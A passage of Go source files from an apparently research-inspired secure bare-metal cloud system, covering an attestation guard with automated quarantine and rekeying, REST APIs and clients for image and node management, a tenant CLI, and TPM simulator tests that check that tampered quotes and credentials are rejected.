// monitorLoop drives periodic IMA rounds until stopped.
func (g *Guard) monitorLoop() {
	defer close(g.loopDone)
	for {
		timer := time.NewTimer(g.Policy().Interval)
		select {
		case <-g.stop:
			timer.Stop()
			return
		case <-g.wake:
			// Policy changed: re-arm from the new interval at once.
			timer.Stop()
			continue
		case <-timer.C:
		}
		g.runRound()
	}
}

// runRound checks every Allocated member once, bounded by the policy's
// quote concurrency. Members mid-pipeline (Attesting, Provisioned) are
// never checked — the provisioner's own attestation path owns them, and
// quarantining a node that was never admitted would be wrong twice
// over.
func (g *Guard) runRound() {
	// Degraded-mode gate: while the registrar's circuit breaker is open,
	// every quote would fail for reasons that say nothing about the
	// members' integrity — revoking on those failures would tear a
	// healthy enclave apart because a provider service is down. Rounds
	// pause (failure counters freeze, nothing is revoked) until the
	// breaker admits probes again.
	if g.mgr.Health().BackendOpen(core.BackendRegistrar) {
		g.setPaused(true)
		return
	}
	g.setPaused(false)
	t0 := time.Now()
	defer g.metrics.roundSeconds.ObserveSince(t0)
	p := g.Policy()
	v := g.enclave.Verifier()
	var members []string
	for node, st := range g.enclave.NodeStates() {
		if st != core.StateAllocated {
			continue
		}
		if status, err := v.Status(node); err != nil || status == keylime.StatusRevoked {
			continue // already revoked (response in flight) or unknown
		}
		members = append(members, node)
	}
	sem := make(chan struct{}, p.MaxConcurrent)
	var wg sync.WaitGroup
	for _, node := range members {
		wg.Add(1)
		sem <- struct{}{}
		go func(node string) {
			defer wg.Done()
			defer func() { <-sem }()
			_, err := v.CheckIMA(node)
			g.noteCheck(node, p, err)
		}(node)
	}
	wg.Wait()
	g.mu.Lock()
	g.rounds++
	g.mu.Unlock()
}

// setPaused flips the degraded-mode hold, journaling each transition
// exactly once so the audit log shows when (and why) rounds stopped
// and resumed.
func (g *Guard) setPaused(paused bool) {
	g.mu.Lock()
	changed := g.paused != paused
	g.paused = paused
	g.mu.Unlock()
	if !changed {
		return
	}
	if paused {
		g.enclave.Journal().Record(core.EvGuardPaused, "",
			"registrar circuit breaker open: IMA rounds paused, no revocations issued")
	} else {
		g.enclave.Journal().Record(core.EvGuardPaused, "",
			"resumed: registrar circuit breaker no longer open")
	}
}

// noteCheck tracks per-node consecutive check failures. A violation
// already revoked the node inside CheckIMA; this path catches the
// quieter failure mode — a member whose agent stopped answering, which
// after FailureTolerance rounds is indistinguishable from a compromise
// that severed the agent.
func (g *Guard) noteCheck(node string, p Policy, err error) {
	g.metrics.checks.Inc()
	g.mu.Lock()
	g.checks++
	if err == nil {
		delete(g.failures, node)
		g.mu.Unlock()
		return
	}
	g.failures[node]++
	n := g.failures[node]
	g.mu.Unlock()
	if n >= p.FailureTolerance {
		g.mu.Lock()
		delete(g.failures, node)
		g.mu.Unlock()
		g.enclave.Verifier().Revoke(node,
			fmt.Sprintf("guard: %d consecutive failed attestation rounds (last: %v)", n, err))
	}
}

// respondLoop executes incident responses. Revocations arriving within
// the coalesce window are handled as one batch, so a burst of
// concurrent revocations quarantines every node but rotates the
// enclave PSK exactly once.
func (g *Guard) respondLoop() {
	defer close(g.respDone)
	for {
		var first keylime.RevocationEvent
		select {
		case <-g.stop:
			return
		case first = <-g.queue:
		}
		batch := []keylime.RevocationEvent{first}
		timer := time.NewTimer(g.Policy().CoalesceWindow)
	collect:
		for {
			select {
			case ev := <-g.queue:
				batch = append(batch, ev)
			case <-timer.C:
				break collect
			case <-g.stop:
				timer.Stop()
				return
			}
		}
		g.respond(batch)
	}
}

// respond runs the automated incident response for a batch of
// revocations: per-node quarantine, one enclave-wide rekey, then
// (policy permitting) replacement acquisition.
func (g *Guard) respond(batch []keylime.RevocationEvent) {
	p := g.Policy()
	var incs []*core.Incident
	var quarantined []string
	for _, ev := range batch {
		inc := g.mgr.OpenIncident(g.name, ev.UUID, ev.Reason)
		g.metrics.revocations.Inc()
		g.mu.Lock()
		g.revocations++
		g.incidents = append(g.incidents, inc.ID)
		// Same retention discipline as the manager: the status surface
		// lists recent incident IDs, not an unbounded history (the
		// incidents themselves live in the manager registry).
		if over := len(g.incidents) - maxStatusIncidents; over > 0 {
			g.incidents = append([]string(nil), g.incidents[over:]...)
		}
		g.mu.Unlock()

		// Only a full member or a parked warm standby is quarantined
		// (a revoked standby must never be handed to a tenant, and
		// must not re-enter the pool). A node still in the
		// provisioning pipeline (Attesting, Provisioned) fails its
		// phase and is routed to the rejected pool by the provisioner;
		// the guard stepping in would double-tear-down a node that was
		// never admitted.
		st := g.enclave.NodeState(ev.UUID)
		if st != core.StateAllocated && st != core.StateWarm {
			inc.Step("skip-quarantine",
				fmt.Sprintf("node is %q, not %q or %q; the provisioning pipeline owns it", st, core.StateAllocated, core.StateWarm))
			inc.Close(core.IncidentResolved, "no enclave membership to revoke")
			continue
		}
		if st == core.StateWarm {
			// A parked standby never held the enclave PSK or any
			// tenant payload, so there is nothing to rekey and no
			// member to replace: quarantine out of the pool and
			// resolve (the pool's own refiller boots a fresh standby).
			// A standby already taken by a batch is banned instead —
			// the fast path rejects it, rotating the PSK itself if the
			// payload got through — and the incident records which of
			// the two actually happened.
			if err := g.enclave.QuarantineNode(ev.UUID, ev.Reason); err != nil {
				inc.Step("skip-quarantine", "standby already left the pool: "+err.Error())
				inc.Close(core.IncidentResolved, "no warm standby to revoke")
				continue
			}
			if g.enclave.NodeState(ev.UUID) == core.StateQuarantined {
				inc.Step("quarantine", "warm standby pulled from the pool, parked in rejected pool")
			} else {
				inc.Step("quarantine", "standby taken mid-acquisition; banned — the fast path rejects it before it can join")
			}
			inc.Close(core.IncidentResolved, "standby quarantined; refiller replaces it")
			continue
		}
		if err := g.enclave.QuarantineNode(ev.UUID, ev.Reason); err != nil {
			// A release (or a second quarantine) racing this response
			// means the node is already out of the enclave — nothing
			// left to protect against, so the incident resolves rather
			// than paging for manual intervention.
			if errors.Is(err, core.ErrNotFound) || errors.Is(err, core.ErrConflict) {
				inc.Step("skip-quarantine", "node already left the enclave: "+err.Error())
				inc.Close(core.IncidentResolved, "no enclave membership to revoke")
				continue
			}
			inc.StepError("quarantine", err)
			inc.Close(core.IncidentDegraded, "quarantine failed; manual intervention required")
			continue
		}
		inc.Step("quarantine", "SAs revoked, agent stopped, BMI export destroyed, HIL port detached, parked in rejected pool")
		incs = append(incs, inc)
		quarantined = append(quarantined, ev.UUID)
	}
	if len(quarantined) == 0 {
		return
	}

	// One rotation retires every SA the whole batch of compromised
	// nodes ever held key material for.
	if err := g.enclave.RotateNetKey(); err != nil {
		for _, inc := range incs {
			inc.StepError("rekey", err)
			inc.Close(core.IncidentDegraded, "PSK rotation failed; manual intervention required")
		}
		return
	}
	for _, inc := range incs {
		inc.Step("rekey", fmt.Sprintf("enclave PSK rotated once for %d quarantined node(s)", len(quarantined)))
	}

	if !p.SelfHeal {
		for _, inc := range incs {
			inc.Close(core.IncidentResolved, "self-healing disabled by policy; enclave runs smaller")
		}
		return
	}
	// A replacement boot is minutes long on real hardware; it must not
	// hold up the response loop, or the next compromised node would
	// keep its exports and switch port for the whole boot. Heals run
	// in their own goroutine (serialized against each other — the
	// manager allows one acquisition per enclave) while the responder
	// returns to quarantining.
	g.healWG.Add(1)
	go func() {
		defer g.healWG.Done()
		g.healMu.Lock()
		defer g.healMu.Unlock()
		g.heal(p, incs, quarantined)
	}()
}

// heal acquires one attested replacement per quarantined node through
// the manager (so the replacement run is itself a visible Operation).
// Any shortfall parks the incidents — and the enclave — in the
// degraded state, reported but not hidden.
func (g *Guard) heal(p Policy, incs []*core.Incident, quarantined []string) {
	n := len(quarantined)
	degrade := func(why string) {
		g.enclave.Journal().Record(core.EvDegraded, "",
			fmt.Sprintf("self-healing failed for %d node(s): %s", n, why))
		for _, inc := range incs {
			inc.Close(core.IncidentDegraded, "replacement failed: "+why)
		}
	}
	op, err := g.mgr.StartAcquire(g.name, p.Image, n)
	if err != nil {
		degrade(err.Error())
		return
	}
	for _, inc := range incs {
		inc.Step("replace", fmt.Sprintf("replacement operation %s started (%d x %s)", op.ID, n, p.Image))
	}
	res, err := op.Wait(g.ctx)
	if err != nil {
		degrade("replacement wait interrupted: " + err.Error())
		return
	}
	if res == nil || len(res.Nodes) < n {
		got := 0
		var causes []string
		if res != nil {
			got = len(res.Nodes)
			for _, f := range res.Failed {
				causes = append(causes, f.String())
			}
		}
		why := fmt.Sprintf("%d of %d replacements allocated", got, n)
		if len(causes) > 0 {
			why += ": " + strings.Join(causes, "; ")
		}
		degrade(why)
		return
	}
	var names []string
	for _, node := range res.Nodes {
		names = append(names, node.Name)
		g.enclave.Journal().Record(core.EvHealed, node.Name,
			fmt.Sprintf("replacement restored enclave to target size (for %s)", strings.Join(quarantined, ",")))
	}
	for _, inc := range incs {
		inc.Step("replace", "replacement node(s) allocated: "+strings.Join(names, ", "))
		inc.Close(core.IncidentResolved, "enclave restored to target size")
	}
}
