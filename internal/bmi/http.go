package bmi

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
)

// This file provides BMI's REST surface so tenant tooling can manage
// images remotely — mirroring the real M2/BMI HTTP API. Binary image
// content travels base64-encoded inside JSON (the volumes here are
// simulation-sized).

// NewHandler exposes a Service over HTTP.
func NewHandler(s *Service) http.Handler {
	mux := http.NewServeMux()

	writeErr := func(w http.ResponseWriter, err error) {
		code := http.StatusInternalServerError
		switch {
		case errors.Is(err, ErrNotFound):
			code = http.StatusNotFound
		case errors.Is(err, ErrExists):
			code = http.StatusConflict
		case errors.Is(err, ErrInUse):
			code = http.StatusConflict
		}
		http.Error(w, err.Error(), code)
	}
	writeJSON := func(w http.ResponseWriter, v interface{}) {
		w.Header().Set("Content-Type", "application/json")
		if err := json.NewEncoder(w).Encode(v); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
		}
	}

	mux.HandleFunc("GET /images", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, s.ListImages())
	})
	mux.HandleFunc("GET /images/{name}", func(w http.ResponseWriter, r *http.Request) {
		img, err := s.GetImage(r.PathValue("name"))
		if err != nil {
			writeErr(w, err)
			return
		}
		writeJSON(w, map[string]interface{}{
			"name": img.Name, "size": img.Size, "snapshot": img.Snapshot,
		})
	})
	mux.HandleFunc("PUT /images/{name}", func(w http.ResponseWriter, r *http.Request) {
		var req struct {
			Size int64
			OS   *OSImageSpec
		}
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		var err error
		if req.OS != nil {
			_, err = s.CreateOSImage(r.PathValue("name"), *req.OS)
		} else {
			_, err = s.CreateImage(r.Context(), r.PathValue("name"), req.Size)
		}
		if err != nil {
			writeErr(w, err)
			return
		}
		w.WriteHeader(http.StatusCreated)
	})
	mux.HandleFunc("DELETE /images/{name}", func(w http.ResponseWriter, r *http.Request) {
		if err := s.DeleteImage(r.Context(), r.PathValue("name")); err != nil {
			writeErr(w, err)
		}
	})
	mux.HandleFunc("POST /images/{name}/clone", func(w http.ResponseWriter, r *http.Request) {
		var req struct {
			Target   string
			Snapshot bool
		}
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		var err error
		if req.Snapshot {
			_, err = s.SnapshotImage(r.Context(), r.PathValue("name"), req.Target)
		} else {
			_, err = s.CloneImage(r.Context(), r.PathValue("name"), req.Target)
		}
		if err != nil {
			writeErr(w, err)
			return
		}
		w.WriteHeader(http.StatusCreated)
	})
	mux.HandleFunc("GET /images/{name}/bootinfo", func(w http.ResponseWriter, r *http.Request) {
		bi, err := s.ExtractBootInfo(r.Context(), r.PathValue("name"))
		if err != nil {
			writeErr(w, err)
			return
		}
		writeJSON(w, bi)
	})
	return mux
}

// Client is an HTTP client for a remote BMI service.
type Client struct {
	Base string
	HTTP *http.Client
}

// NewClient returns a client for the BMI API at base URL.
func NewClient(base string) *Client {
	return &Client{Base: base, HTTP: http.DefaultClient}
}

func (c *Client) do(method, path string, body, out interface{}) error {
	var rd io.Reader
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			return err
		}
		rd = bytes.NewReader(b)
	}
	req, err := http.NewRequest(method, c.Base+path, rd)
	if err != nil {
		return err
	}
	resp, err := c.HTTP.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode >= 400 {
		msg, _ := io.ReadAll(resp.Body)
		return fmt.Errorf("bmi: %s %s: %s: %s", method, path, resp.Status, bytes.TrimSpace(msg))
	}
	if out != nil {
		return json.NewDecoder(resp.Body).Decode(out)
	}
	return nil
}

// ListImages lists image names.
func (c *Client) ListImages() ([]string, error) {
	var out []string
	err := c.do("GET", "/images", nil, &out)
	return out, err
}

// CreateImage allocates an empty image.
func (c *Client) CreateImage(name string, size int64) error {
	return c.do("PUT", "/images/"+name, map[string]interface{}{"Size": size}, nil)
}

// CreateOSImage builds a bootable OS image remotely.
func (c *Client) CreateOSImage(name string, spec OSImageSpec) error {
	return c.do("PUT", "/images/"+name, map[string]interface{}{"OS": &spec}, nil)
}

// DeleteImage removes an image.
func (c *Client) DeleteImage(name string) error {
	return c.do("DELETE", "/images/"+name, nil, nil)
}

// CloneImage copies an image.
func (c *Client) CloneImage(src, dst string) error {
	return c.do("POST", "/images/"+src+"/clone", map[string]interface{}{"Target": dst}, nil)
}

// SnapshotImage creates an immutable snapshot.
func (c *Client) SnapshotImage(src, snap string) error {
	return c.do("POST", "/images/"+src+"/clone", map[string]interface{}{"Target": snap, "Snapshot": true}, nil)
}

// ExtractBootInfo fetches an image's kernel/initrd/cmdline.
func (c *Client) ExtractBootInfo(name string) (*BootInfo, error) {
	var out BootInfo
	err := c.do("GET", "/images/"+name+"/bootinfo", nil, &out)
	return &out, err
}
