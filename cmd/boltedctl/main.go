// Command boltedctl is the tenant CLI for a running boltedd: it speaks
// the service-plane REST APIs to manage projects, nodes, networks,
// power and images — and can drive the full enclave pipeline over the
// wire with "enclave acquire".
//
// Usage:
//
//	boltedctl [-server URL] <command> [args]
//
//	project create <name>
//	node list-free
//	node allocate <project> [node]
//	node free <project> <node>
//	node metadata <node>
//	net create <project> <network>
//	net delete <project> <network>
//	net connect <project> <node> <network>
//	net detach <project> <node> <network>
//	power <on|off|cycle> <project> <node>
//	image list
//	image create <name> <size-bytes>
//	image clone <src> <dst>
//	image snapshot <src> <snap>
//	image delete <name>
//	image bootinfo <name>
//	firmware verify <node> <source-id> <source-file>
//	enclave acquire <image> <n>   (-profile alice|bob|charlie, -project NAME)
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"strconv"

	"bolted"
	"bolted/internal/bmi"
	"bolted/internal/core"
	"bolted/internal/hil"
)

func usage() {
	fmt.Fprintln(os.Stderr, `usage: boltedctl [-server URL] [-profile P] [-project NAME] <command> [args]
commands:
  project create <name>
  node list-free
  node allocate <project> [node]
  node free <project> <node>
  node metadata <node>
  net create <project> <network>
  net delete <project> <network>
  net connect <project> <node> <network>
  net detach <project> <node> <network>
  power <on|off|cycle> <project> <node>
  image list | create <name> <size> | clone <src> <dst> |
        snapshot <src> <snap> | delete <name> | bootinfo <name>
  firmware verify <node> <source-id> <source-file>
        (rebuild LinuxBoot from source and compare against the
         provider-published platform PCR for the node)
  enclave acquire <image> <n>
        (dial the server's full service plane and provision a batch of
         n nodes end-to-end — airlock, boot, attest, provision —
         entirely over the wire)`)
	os.Exit(2)
}

func main() {
	server := flag.String("server", "http://127.0.0.1:8080", "boltedd service-plane base URL")
	profileName := flag.String("profile", "bob", "enclave security profile: alice, bob or charlie")
	project := flag.String("project", "boltedctl", "enclave project name")
	flag.Parse()
	args := flag.Args()
	if len(args) < 2 {
		usage()
	}
	c := hil.NewClient(*server)
	ctx := context.Background()

	need := func(n int) {
		if len(args) != n {
			usage()
		}
	}
	var err error
	switch args[0] + " " + args[1] {
	case "project create":
		need(3)
		err = c.CreateProject(args[2])
	case "node list-free":
		need(2)
		var free []string
		free, err = c.FreeNodes()
		for _, n := range free {
			fmt.Println(n)
		}
	case "node allocate":
		if len(args) == 4 {
			err = c.AllocateNode(ctx, args[2], args[3])
			if err == nil {
				fmt.Println(args[3])
			}
		} else {
			need(3)
			var got string
			got, err = c.AllocateAnyNode(ctx, args[2])
			if err == nil {
				fmt.Println(got)
			}
		}
	case "node free":
		need(4)
		err = c.FreeNode(ctx, args[2], args[3])
	case "node metadata":
		need(3)
		var md map[string]string
		md, err = c.NodeMetadata(args[2])
		for k, v := range md {
			fmt.Printf("%s=%s\n", k, v)
		}
	case "net create":
		need(4)
		err = c.CreateNetwork(ctx, args[2], args[3])
	case "net delete":
		need(4)
		err = c.DeleteNetwork(ctx, args[2], args[3])
	case "net connect":
		need(5)
		err = c.ConnectNode(ctx, args[2], args[3], args[4])
	case "net detach":
		need(5)
		err = c.DetachNode(ctx, args[2], args[3], args[4])
	case "power on", "power off", "power cycle":
		need(4)
		err = c.Power(ctx, args[2], args[3], args[1])
	case "image list":
		need(2)
		var imgs []string
		imgs, err = bmiClient(*server).ListImages()
		for _, i := range imgs {
			fmt.Println(i)
		}
	case "image create":
		need(4)
		var size int64
		size, err = strconv.ParseInt(args[3], 10, 64)
		if err == nil {
			_, err = bmiClient(*server).CreateImage(ctx, args[2], size)
		}
	case "image clone":
		need(4)
		_, err = bmiClient(*server).CloneImage(ctx, args[2], args[3])
	case "image snapshot":
		need(4)
		_, err = bmiClient(*server).SnapshotImage(ctx, args[2], args[3])
	case "image delete":
		need(3)
		err = bmiClient(*server).DeleteImage(ctx, args[2])
	case "image bootinfo":
		need(3)
		var bi *bmi.BootInfo
		bi, err = bmiClient(*server).ExtractBootInfo(ctx, args[2])
		if err == nil {
			fmt.Printf("kernel-id: %s\ncmdline:   %s\nkernel:    %d bytes\ninitrd:    %d bytes\n",
				bi.KernelID, bi.Cmdline, len(bi.Kernel), len(bi.Initrd))
		}
	case "firmware verify":
		need(5)
		var md map[string]string
		md, err = c.NodeMetadata(args[2])
		if err != nil {
			break
		}
		var source []byte
		source, err = os.ReadFile(args[4])
		if err != nil {
			break
		}
		if err = core.VerifyPublishedFirmware(md, args[3], source); err == nil {
			fmt.Printf("node %s: published firmware measurement matches your build of %s\n", args[2], args[3])
		}
	case "enclave acquire":
		need(4)
		var n int
		n, err = strconv.Atoi(args[3])
		if err == nil {
			err = acquireEnclave(ctx, *server, *project, *profileName, args[2], n)
		}
	default:
		usage()
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "boltedctl:", err)
		os.Exit(1)
	}
}

// acquireEnclave dials the server's full service plane and runs the
// concurrent batch pipeline against it: every HIL, BMI and Keylime
// interaction crosses the wire.
func acquireEnclave(ctx context.Context, server, project, profileName, image string, n int) error {
	var profile bolted.Profile
	switch profileName {
	case "alice":
		profile = bolted.ProfileAlice
	case "bob":
		profile = bolted.ProfileBob
	case "charlie":
		profile = bolted.ProfileCharlie
	default:
		return fmt.Errorf("unknown profile %q (want alice, bob or charlie)", profileName)
	}
	cloud, err := bolted.Dial(server)
	if err != nil {
		return err
	}
	enclave, err := bolted.NewEnclave(cloud, project, profile)
	if err != nil {
		return err
	}
	res, err := enclave.AcquireNodes(ctx, image, n)
	if err != nil {
		return err
	}
	for _, node := range res.Nodes {
		fmt.Printf("allocated %s\n", node.Name)
	}
	for _, f := range res.Failed {
		fmt.Printf("rejected  %s (%s: %v)\n", f.Node, f.Phase, f.Err)
	}
	fmt.Printf("batch: %d allocated, %d rejected in %v\n", len(res.Nodes), len(res.Failed), res.Timings.Wall.Round(0))
	return nil
}

// bmiClient returns a BMI client for the boltedd server's /bmi prefix.
func bmiClient(server string) *bmi.Client {
	return bmi.NewClient(server + "/bmi")
}
