package tpm

import (
	"bytes"
	"crypto/sha256"
	"testing"
	"testing/quick"
)

func mustTPM(t testing.TB) *TPM {
	t.Helper()
	tp, err := New()
	if err != nil {
		t.Fatal(err)
	}
	return tp
}

func TestExtendSemantics(t *testing.T) {
	tp := mustTPM(t)
	zero, _ := tp.PCRValue(0)
	if zero != (Digest{}) {
		t.Fatal("fresh PCR not zero")
	}
	d := sha256.Sum256([]byte("firmware"))
	if err := tp.Extend(0, d, "firmware"); err != nil {
		t.Fatal(err)
	}
	got, _ := tp.PCRValue(0)
	h := sha256.New()
	h.Write(make([]byte, DigestSize))
	h.Write(d[:])
	if !bytes.Equal(got[:], h.Sum(nil)) {
		t.Fatal("extend is not SHA256(old || digest)")
	}
}

func TestExtendOrderMatters(t *testing.T) {
	a := sha256.Sum256([]byte("a"))
	b := sha256.Sum256([]byte("b"))
	t1, t2 := mustTPM(t), mustTPM(t)
	t1.Extend(0, a, "a")
	t1.Extend(0, b, "b")
	t2.Extend(0, b, "b")
	t2.Extend(0, a, "a")
	v1, _ := t1.PCRValue(0)
	v2, _ := t2.PCRValue(0)
	if v1 == v2 {
		t.Fatal("extend order did not change PCR value")
	}
}

func TestPCRBounds(t *testing.T) {
	tp := mustTPM(t)
	for _, idx := range []int{-1, NumPCRs, NumPCRs + 5} {
		if err := tp.Extend(idx, Digest{}, ""); err == nil {
			t.Errorf("Extend(%d) accepted", idx)
		}
		if _, err := tp.PCRValue(idx); err == nil {
			t.Errorf("PCRValue(%d) accepted", idx)
		}
		if _, err := tp.Quote(nil, []int{idx}); err == nil {
			t.Errorf("Quote over PCR %d accepted", idx)
		}
	}
}

func TestResetClearsPCRsKeepsIdentity(t *testing.T) {
	tp := mustTPM(t)
	tp.ExtendData(0, []byte("x"), "x")
	ekBefore := tp.EKPublicBytes()
	boot := tp.BootCount()
	tp.Reset()
	v, _ := tp.PCRValue(0)
	if v != (Digest{}) {
		t.Fatal("Reset did not clear PCR")
	}
	if len(tp.EventLog()) != 0 {
		t.Fatal("Reset did not clear event log")
	}
	if !bytes.Equal(tp.EKPublicBytes(), ekBefore) {
		t.Fatal("Reset changed EK identity")
	}
	if tp.BootCount() != boot+1 {
		t.Fatal("Reset did not bump boot count")
	}
}

func TestEventLogReplayMatchesPCRs(t *testing.T) {
	tp := mustTPM(t)
	tp.ExtendData(0, []byte("pei"), "pei")
	tp.ExtendData(0, []byte("acm"), "acm")
	tp.ExtendData(4, []byte("ipxe"), "ipxe")
	tp.ExtendData(10, []byte("ima-entry"), "ima")
	replayed := ReplayLog(tp.EventLog())
	for _, pcr := range []int{0, 4, 10} {
		want, _ := tp.PCRValue(pcr)
		if replayed[pcr] != want {
			t.Fatalf("replay PCR %d = %x, want %x", pcr, replayed[pcr], want)
		}
	}
}

func TestQuoteVerifies(t *testing.T) {
	tp := mustTPM(t)
	tp.ExtendData(0, []byte("fw"), "fw")
	nonce := []byte("verifier-nonce-123")
	q, err := tp.Quote(nonce, []int{0, 10})
	if err != nil {
		t.Fatal(err)
	}
	if err := VerifyQuote(tp.AIKPublic(), q, nonce); err != nil {
		t.Fatalf("valid quote rejected: %v", err)
	}
	want, _ := tp.PCRValue(0)
	if q.PCRValues[0] != want {
		t.Fatal("quote carries wrong PCR value")
	}
}

func TestQuoteRejectsNonceReplay(t *testing.T) {
	tp := mustTPM(t)
	q, _ := tp.Quote([]byte("old-nonce"), []int{0})
	if err := VerifyQuote(tp.AIKPublic(), q, []byte("new-nonce")); err == nil {
		t.Fatal("replayed quote accepted")
	}
}

func TestQuoteRejectsTampering(t *testing.T) {
	tp := mustTPM(t)
	tp.ExtendData(0, []byte("good firmware"), "fw")
	nonce := []byte("n")
	q, _ := tp.Quote(nonce, []int{0})

	evil := *q
	evil.PCRValues = append([]Digest(nil), q.PCRValues...)
	evil.PCRValues[0] = sha256.Sum256([]byte("claimed-good-value"))
	if err := VerifyQuote(tp.AIKPublic(), &evil, nonce); err == nil {
		t.Fatal("tampered PCR value accepted")
	}

	other := mustTPM(t)
	if err := VerifyQuote(other.AIKPublic(), q, nonce); err == nil {
		t.Fatal("quote verified under wrong AIK")
	}
}

func TestQuoteRejectsMalformed(t *testing.T) {
	tp := mustTPM(t)
	q, _ := tp.Quote([]byte("n"), []int{0, 1})
	q.PCRValues = q.PCRValues[:1]
	if err := VerifyQuote(tp.AIKPublic(), q, []byte("n")); err == nil {
		t.Fatal("malformed quote accepted")
	}
	if err := VerifyQuote(tp.AIKPublic(), nil, []byte("n")); err == nil {
		t.Fatal("nil quote accepted")
	}
}

func TestCredentialActivation(t *testing.T) {
	tp := mustTPM(t)
	secret := []byte("registrar challenge secret")
	blob, err := MakeCredential(tp.EKPublic(), AIKBinding(tp.AIKPublic()), secret)
	if err != nil {
		t.Fatal(err)
	}
	got, err := tp.ActivateCredential(blob)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, secret) {
		t.Fatalf("recovered %q, want %q", got, secret)
	}
}

func TestCredentialWrongEKFails(t *testing.T) {
	genuine, imposter := mustTPM(t), mustTPM(t)
	// Credential made for genuine's EK but binding imposter's AIK: the
	// imposter cannot activate it (wrong EK), and genuine refuses (it
	// binds a foreign AIK). This is the server-spoofing defence.
	blob, err := MakeCredential(genuine.EKPublic(), AIKBinding(imposter.AIKPublic()), []byte("s"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := imposter.ActivateCredential(blob); err == nil {
		t.Fatal("imposter activated a credential for someone else's EK")
	}
	if _, err := genuine.ActivateCredential(blob); err == nil {
		t.Fatal("TPM activated a credential binding a foreign AIK")
	}
}

func TestCredentialTamperFails(t *testing.T) {
	tp := mustTPM(t)
	blob, _ := MakeCredential(tp.EKPublic(), AIKBinding(tp.AIKPublic()), []byte("s"))
	blob.Ciphertext[0] ^= 1
	if _, err := tp.ActivateCredential(blob); err == nil {
		t.Fatal("tampered credential accepted")
	}
	if _, err := tp.ActivateCredential(nil); err == nil {
		t.Fatal("nil credential accepted")
	}
}

// Property: replaying any event log reproduces a PCR state that a quote
// over those PCRs reports.
func TestQuickReplayConsistency(t *testing.T) {
	tp := mustTPM(t)
	f := func(entries [][]byte) bool {
		tp.Reset()
		for i, e := range entries {
			tp.ExtendData(i%8, e, "e")
		}
		replayed := ReplayLog(tp.EventLog())
		for pcr, want := range replayed {
			got, _ := tp.PCRValue(pcr)
			if got != want {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}
