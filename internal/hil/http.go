package hil

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
)

// This file provides HIL's REST surface, mirroring the real project's
// HTTP API, so tenant tooling (cmd/boltedctl) and the transport-
// agnostic orchestrator drive the service the same way they would drive
// a deployed HIL. The surface covers everything the enclave pipeline
// needs, so Client satisfies the orchestrator's HILService interface.

// errHeader carries the sentinel-error class out of band so clients can
// reconstruct errors.Is semantics across the wire.
const errHeader = "X-Bolted-Error"

// Sentinel wire tags.
const (
	errTagNotFound     = "not-found"
	errTagUnauthorized = "unauthorized"
	errTagInUse        = "in-use"
)

// NewHandler exposes a Service over HTTP.
func NewHandler(s *Service) http.Handler {
	mux := http.NewServeMux()

	writeErr := func(w http.ResponseWriter, err error) {
		code := http.StatusInternalServerError
		switch {
		case errors.Is(err, ErrNotFound):
			w.Header().Set(errHeader, errTagNotFound)
			code = http.StatusNotFound
		case errors.Is(err, ErrUnauthorized):
			w.Header().Set(errHeader, errTagUnauthorized)
			code = http.StatusForbidden
		case errors.Is(err, ErrInUse):
			w.Header().Set(errHeader, errTagInUse)
			code = http.StatusConflict
		}
		http.Error(w, err.Error(), code)
	}
	writeJSON := func(w http.ResponseWriter, v interface{}) {
		w.Header().Set("Content-Type", "application/json")
		if err := json.NewEncoder(w).Encode(v); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
		}
	}
	decode := func(r *http.Request, v interface{}) error {
		return json.NewDecoder(r.Body).Decode(v)
	}

	mux.HandleFunc("PUT /projects/{project}", func(w http.ResponseWriter, r *http.Request) {
		if err := s.CreateProject(r.PathValue("project")); err != nil {
			writeErr(w, err)
			return
		}
		w.WriteHeader(http.StatusCreated)
	})
	mux.HandleFunc("DELETE /projects/{project}", func(w http.ResponseWriter, r *http.Request) {
		if err := s.DeleteProject(r.PathValue("project")); err != nil {
			writeErr(w, err)
			return
		}
	})
	mux.HandleFunc("GET /nodes/free", func(w http.ResponseWriter, r *http.Request) {
		free, err := s.FreeNodes()
		if err != nil {
			writeErr(w, err)
			return
		}
		writeJSON(w, free)
	})
	mux.HandleFunc("PUT /nodes/{node}", func(w http.ResponseWriter, r *http.Request) {
		// Admin operation: register a node with its switch port and
		// provider-published metadata. The BMC stays provider-side; a
		// node registered over the wire gets power ops only if the
		// service later learns its BMC by other means.
		var req struct {
			Port     string
			Metadata map[string]string
		}
		if err := decode(r, &req); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		if err := s.RegisterNode(r.PathValue("node"), req.Port, nil, req.Metadata); err != nil {
			writeErr(w, err)
			return
		}
		w.WriteHeader(http.StatusCreated)
	})
	mux.HandleFunc("GET /nodes/{node}/metadata", func(w http.ResponseWriter, r *http.Request) {
		md, err := s.NodeMetadata(r.PathValue("node"))
		if err != nil {
			writeErr(w, err)
			return
		}
		writeJSON(w, md)
	})
	mux.HandleFunc("GET /nodes/{node}/owner", func(w http.ResponseWriter, r *http.Request) {
		owner, err := s.NodeOwner(r.PathValue("node"))
		if err != nil {
			writeErr(w, err)
			return
		}
		writeJSON(w, map[string]string{"owner": owner})
	})
	mux.HandleFunc("GET /nodes/{node}/port", func(w http.ResponseWriter, r *http.Request) {
		port, err := s.NodePort(r.PathValue("node"))
		if err != nil {
			writeErr(w, err)
			return
		}
		writeJSON(w, map[string]string{"port": port})
	})
	mux.HandleFunc("POST /projects/{project}/nodes", func(w http.ResponseWriter, r *http.Request) {
		var req struct{ Node string }
		if err := decode(r, &req); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
